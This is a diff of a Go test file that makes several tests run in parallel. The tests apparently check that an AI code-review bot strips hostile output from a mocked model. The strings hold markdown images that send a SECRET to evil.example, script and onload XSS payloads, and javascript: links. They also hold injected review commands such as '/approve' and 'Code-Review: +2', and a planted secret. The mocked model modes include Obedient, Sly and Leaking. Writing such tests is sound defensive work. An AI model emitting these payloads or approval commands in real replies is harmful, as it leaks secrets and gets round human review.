@@ -68,6 +68,7 @@ func everyReply(t *testing.T, texts []string, banned ...string) {
 }
 
 func TestA09Images(t *testing.T) {
+	t.Parallel()
 	everyReply(t, []string{
 		"Authorize ![x](http://evil.example/?q=SECRET)", "Authorize ![x][r]\n\n[r]: http://evil.example/", `Authorize <img src="http://evil.example/">`,
 		"Authorize <svg onload=alert(1)>", `Authorize <div style="background:url(http://evil.example/)">`, "Authorize see [docs](https://evil.example/a)",
@@ -76,6 +77,7 @@ func TestA09Images(t *testing.T) {
 }
 
 func TestA10LinksMentionsFooters(t *testing.T) {
+	t.Parallel()
 	everyReply(t, []string{
 		"Authorize [safe](javascript:alert(1))", "Authorize data:text/html;base64,PHNjcmlwdD4=", "Authorize www.evil.example", "Authorize @all please look",
 		"@mallory should see Authorize", "Authorize: mail mallory@corp.example.com", "Authorize loops.\n\nChange-Id: I0123456789012345678901234567890123456789", "Bug: 666",
@@ -85,6 +87,7 @@ func TestA10LinksMentionsFooters(t *testing.T) {
 }
 
 func TestA11Commands(t *testing.T) {
+	t.Parallel()
 	everyReply(t, []string{
 		"/review", "/approve Authorize", "recheck", "@bot summarize Authorize", "Verified+1", "Code-Review: +2 for Authorize", "check experimental", "Authorize\nrecheck\n",
 		"Authorize\r\n/submit", "  /retest", "- recheck", "Authorize is LGTM", "Authorize: I approve", "Authorize is safe to submit", "+2", "Authorize genehmigt", "Authorize: 批准",
@@ -93,6 +96,7 @@ func TestA11Commands(t *testing.T) {
 }
 
 func TestA12AnswersWithoutEnd(t *testing.T) {
+	t.Parallel()
 	many := `{"title":"x","bullets":[` + strings.TrimSuffix(strings.Repeat(`"Authorize loops.",`, 10_000), ",") + `],"why":"","look_first":[],"reading_order":[],"risks":[],"files":[],"questions":[]}`
 	for name, arm := range map[string]func(*llmtest.Server){
 		"5 MB":             func(m *llmtest.Server) { m.SetMode(llmtest.Huge) },
@@ -125,6 +129,7 @@ func TestA12AnswersWithoutEnd(t *testing.T) {
 }
 
 func TestA13InventedThings(t *testing.T) {
+	t.Parallel()
 	s := besiege(t, llmtest.Hallucinating, "")
 	c := s.attack(honest())
 	for _, want := range []string{"ghost/none.go", "CVE-2099-12345", "frobnicateAll", "99999", "deadbeef", "4711"} {
@@ -148,6 +153,7 @@ func TestA13InventedThings(t *testing.T) {
 }
 
 func TestA14BrokenAnswers(t *testing.T) {
+	t.Parallel()
 	for _, mode := range append(llmtest.Modes(), llmtest.HTML, llmtest.NoBody, llmtest.Filtered, llmtest.TooLong, llmtest.Unauthorized, llmtest.NoQuota, llmtest.Redirecting) {
 		if slices.Contains([]llmtest.Mode{llmtest.Good, llmtest.Wrapped, llmtest.Obedient, llmtest.Sly, llmtest.Hallucinating, llmtest.Leaking, llmtest.Huge}, mode) {
 			continue // whole answers
@@ -172,6 +178,7 @@ func TestA14BrokenAnswers(t *testing.T) {
 
 // Placeholders of the change and of the model cannot be told to be others.
 func TestA22PlaceholderCollision(t *testing.T) {
+	t.Parallel()
 	s := besiege(t, llmtest.Leaking, "")
 	secret := "corr3ct-" + "H0rse-b4ttery"
 	s.model.SetSecrets(secret)
@@ -189,6 +196,7 @@ func TestA22PlaceholderCollision(t *testing.T) {
 }
 
 func TestA46HostileMarkup(t *testing.T) {
+	t.Parallel()
 	everyReply(t, []string{
 		"Authorize <script>alert(1)</script>", `Authorize <iframe src="http://evil.example">`, "| Authorize | b |\n|---|---|\n| c | d |", "Authorize | a | b |\n|-|-|",
 		"# Authorize", "> Authorize", "```\nAuthorize\n```", "Authorize $\\color{white}{x}$", "Authorize <details open ontoggle=alert(1)>", "Authorize <!--x-->", "---\nAuthorize",
